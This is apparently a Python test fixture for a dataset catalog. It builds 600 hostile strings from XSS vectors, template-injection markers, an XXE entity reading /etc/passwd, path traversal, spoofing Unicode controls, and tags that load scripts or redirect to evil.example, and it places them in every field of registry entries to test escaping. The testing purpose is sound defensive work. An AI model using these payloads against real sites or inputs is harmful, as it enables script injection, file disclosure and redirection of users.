"""Texts that a browser, a script or a template engine would obey, and a registry that holds one in each field."""

from __future__ import annotations

from itertools import product
from pathlib import Path

from catalog.record import (
    Amount,
    Column,
    Distribution,
    Entry,
    LicenseClaim,
    Relation,
    Statement,
    Tag,
    Verdict,
)

VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/a.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=//evil.example/a.swf></object>",
    "<embed src=//evil.example/a.svg>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>Go</button></form>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>a</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
    "<template><script>alert(1)</script></template>",
    "<x-a style=background:url(//evil.example/a.png)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=//evil.example/a.xsl?>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\u2028alert(1)\u2029//",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://a.example/",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "https://known.example@evil.example/",
    "//evil.example/a",
    "https://evil.example/\"onmouseover=alert(1)//",
    "{{ 7*7 }}{% include 'a' %}{{ config.items() }}",
    "${alert(1)}`${alert(1)}`",
    "#{alert(1)} <%= alert(1) %>",
    "--8<-- \"secret.txt\"",
    "[a](javascript:alert(1)) ![a](//evil.example/a.png)",
    "---\ntitle: taken\n---",
    "]]></summary></entry><entry><id>forged</id></entry>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "CON",
    "\u202etxt.exe\u202c \u200b\ufeff",
    "\x1b]0;title\x07\x9b31m",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "catalog-home\"></div><script>alert(1)</script>",
)  # fmt: skip

WRAPPERS = (
    "{}", "a \"{}", "a '{}", "\">{}", "'>{}", "a{}<b", "<!-- {}", "</p></td></table>{}", "`{}`", "{}\n\n{}",
)  # fmt: skip

PAYLOADS = tuple(wrapper.format(vector, vector) for wrapper, vector in product(WRAPPERS, VECTORS))
"""600 of them."""

SOURCE = "hostile"


def entry_of(number: int, payload: str) -> Entry:
    """An entry with a payload in each of its texts."""
    address = f"https://a.example/{payload}"
    return Entry(
        source=SOURCE, id=f"{number}/{payload}"[:500], name=payload, title=payload, title_zh=payload,
        upstream_id=payload, summary=payload, description=payload, url=address if number % 2 else payload,
        aliases=(payload,), creators=(payload,), publisher=payload, revision=payload, access="gated",
        access_note=payload, popularity=number % 200, rows=Amount(number, payload), bytes=Amount(number, payload),
        tokens=Amount(number, payload, True), doi=payload, arxiv=payload, paper=payload, citation=payload,
        created="2024-01-02", modified="2025-01-02",
        statements=(Statement("domain", payload, payload),), keywords=(payload,),
        licenses=(LicenseClaim(raw=payload, by=payload, evidence=payload, note=payload, revision=payload),),
        columns=(Column(payload, payload, payload, payload),),
        distributions=(
            Distribution(url=payload, path=payload, format=payload, note=payload, digest=f"sha256:{payload}"),
            Distribution(url=address, path=payload, format=payload, note=payload, digest=f"sha256:{'0' * 64}"),
        ),
        relations=(Relation("derived-from", payload, payload), Relation("part-of", f"{SOURCE}:0", payload)),
        evidence=(payload, address), notes=payload,
        tags=(
            Tag("domain", "medical", payload, payload, 0.5), Tag("task", "sft", payload, payload),
            Tag("library", payload[:100], payload, payload), Tag("language", "en", payload, payload),
        ),
        verdict=Verdict("conditions", payload, "permissive", payload, (payload,)), made_by="a test",
    )  # fmt: skip


def registry_of(path: Path, payloads: tuple[str, ...] = PAYLOADS) -> None:
    """Write a registry with one entry a payload, some of them changed since."""
    from catalog.registry import Registry

    with Registry.open(path, create=True) as registry:
        for verdict in ("yes", "conditions"):
            run = registry.begin_run(SOURCE, "sync")
            made = [_with(entry_of(number, text), verdict) for number, text in enumerate(payloads)]
            registry.commit_page(run, made)
            registry.finish_run(run, "done")


def _with(entry: Entry, commercial: str) -> Entry:
    fields = {name: getattr(entry, name) for name in Entry.__struct_fields__}
    text = entry.verdict.reason if entry.verdict else ""
    expression = text if commercial == "yes" else f"{text} 2"
    return Entry(**{**fields, "verdict": Verdict(commercial, expression, "permissive", text, (text,))})
